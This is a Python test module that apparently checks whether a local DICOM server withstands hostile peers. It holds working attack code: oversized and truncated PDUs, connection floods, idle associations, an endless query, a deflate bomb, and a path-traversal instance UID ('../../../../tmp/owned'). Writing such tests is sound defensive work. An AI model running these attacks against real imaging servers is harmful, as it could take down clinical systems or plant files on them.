"""What may call the DICOM port with no good intention; each stays in force inside its `with`."""

import socket
import struct
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any, Final

from pydicom.filebase import DicomBytesIO
from pydicom.filewriter import write_file_meta_info
from pydicom.uid import UID, DeflatedExplicitVRLittleEndian, ExplicitVRLittleEndian, UltrasoundImageStorage
from pynetdicom import AE, _config
from pynetdicom.dsutils import create_file_meta

from benchmarks.dicom_peers import CALLED, CALLING
from clinic_records.errors import ClinicError

SILENT: Final = 1000
BOMB: Final = 1 << 30
"""Bytes that the deflated object unfolds to; it has about a megabyte."""


@contextmanager
def giant_pdus(port: int, folder: Path) -> Iterator[str]:
    """A PDU of 4 GiB is announced, many times, and never comes."""
    del folder
    with ExitStack() as stack:
        for _ in range(100):
            wire = stack.enter_context(_call(port))
            with suppress(OSError):
                wire.sendall(struct.pack(">BxL", 1, 0xFFFF_FFFF) + bytes(60_000))
        yield "100 announced"


@contextmanager
def silent_sockets(port: int, folder: Path) -> Iterator[str]:
    """Connections that never say a word."""
    del folder
    with ExitStack() as stack:
        for _ in range(SILENT):
            stack.enter_context(_call(port))
        yield f"{SILENT} open"


@contextmanager
def half_requests(port: int, folder: Path) -> Iterator[str]:
    """Association requests of the longest kind, each without its last byte."""
    del folder
    with ExitStack() as stack:
        for _ in range(200):
            wire = stack.enter_context(_call(port))
            with suppress(OSError):
                wire.sendall(struct.pack(">BxL", 1, 250_000) + bytes(249_999))
        yield "200 open"


@contextmanager
def idle_associations(port: int, folder: Path) -> Iterator[str]:
    """A known device that opens associations and never uses or ends them."""
    del folder
    ae = AE(CALLING)
    ae.add_requested_context(UltrasoundImageStorage, ExplicitVRLittleEndian)
    made = [ae.associate("127.0.0.1", port, ae_title=CALLED) for _ in range(40)]
    try:
        yield f"{sum(each.is_established for each in made)} of 40 open"
    finally:
        for association in made:
            if association.is_established:
                association.abort()


@contextmanager
def long_query(port: int, folder: Path) -> Iterator[str]:
    """A query whose identifier has no end."""
    del folder
    ae = AE(CALLING)
    ae.add_requested_context("1.2.840.10008.5.1.4.31", ExplicitVRLittleEndian)
    association: Any = ae.associate("127.0.0.1", port, ae_title=CALLED)
    command = b"".join(
        struct.pack("<HHL", 0, element, len(value)) + value
        for element, value in (
            (0x0002, b"1.2.840.10008.5.1.4.31"),
            (0x0100, b"\x20\0"),
            (0x0110, b"\1\0"),
            (0x0700, b"\0\0"),
            (0x0800, b"\1\0"),
        )
    )
    context = association.accepted_contexts[0].context_id
    wire = association.dul.socket.socket
    sent = 0
    with suppress(OSError):
        wire.sendall(_data(context, 3, command))
        while sent < BOMB:
            wire.sendall(_data(context, 0, bytes(1 << 19)))
            sent += 1 << 19
    try:
        yield f"cut after {sent >> 20} MiB"
    finally:
        wire.close()  # pynetdicom forgets the socket of a caller that was cut


@contextmanager
def deflate_bomb(port: int, folder: Path) -> Iterator[str]:
    """An object of one megabyte that unfolds to a gigabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = _element(0x0008, 0x0016, b"UI", UltrasoundImageStorage.encode()) + _element(
        0x0008, 0x0018, b"UI", b"1.2.3.4"
    )
    dataset = packer.compress(head + struct.pack("<HH2sHL", 0x7FE0, 0x0010, b"OB", 0, BOMB))
    dataset += b"".join(packer.compress(bytes(1 << 20)) for _ in range(BOMB >> 20)) + packer.flush()
    yield _store(port, folder, "1.2.3.4", dataset, DeflatedExplicitVRLittleEndian)


@contextmanager
def traversal_uid(port: int, folder: Path) -> Iterator[str]:
    """An object whose instance UID is a path."""
    name = b"../../../../tmp/owned"
    dataset = _element(0x0008, 0x0016, b"UI", UltrasoundImageStorage.encode()) + _element(0x0008, 0x0018, b"UI", name)
    yield _store(port, folder, name.decode(), dataset, ExplicitVRLittleEndian)


ATTACKS: Final[Mapping[str, Callable[[int, Path], Any]]] = {
    "a PDU of 4 GiB announced": giant_pdus,
    "silent sockets": silent_sockets,
    "association requests without their end": half_requests,
    "associations left open": idle_associations,
    "a query without end": long_query,
    "deflate bomb": deflate_bomb,
    "traversal UID": traversal_uid,
}
"""Each yields what it came to, once it is in force."""


def _call(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=10)


def _data(context: int, control: int, data: bytes) -> bytes:
    return struct.pack(">BxLLBB", 4, len(data) + 6, len(data) + 2, context, control) + data


def _element(group: int, element: int, representation: bytes, value: bytes) -> bytes:
    value += b"\0" * (len(value) % 2)
    return struct.pack("<HH2sH", group, element, representation, len(value)) + value


def _store(port: int, folder: Path, instance: str, dataset: bytes, syntax: UID) -> str:
    """C-STORE the bytes as they are; the status answered."""
    head = DicomBytesIO()
    meta = create_file_meta(sop_class_uid=UltrasoundImageStorage, sop_instance_uid=UID("1.2.3"), transfer_syntax=syntax)
    meta.MediaStorageSOPInstanceUID = UID(instance)
    write_file_meta_info(head, meta)
    path = folder / "evil.dcm"
    path.write_bytes(bytes(128) + b"DICM" + head.getvalue() + dataset)
    ae = AE(CALLING)
    ae.add_requested_context(UltrasoundImageStorage, syntax)
    _config.STORE_SEND_CHUNKED_DATASET = True
    association: Any = ae.associate("127.0.0.1", port, ae_title=CALLED)
    try:
        if not association.is_established:
            raise ClinicError("no association for the hostile object")
        status = association.send_c_store(path)
        return f"{len(dataset)} bytes, answered {status.get('Status', -1):#06x}"
    finally:
        _config.STORE_SEND_CHUNKED_DATASET = False
        association.release()
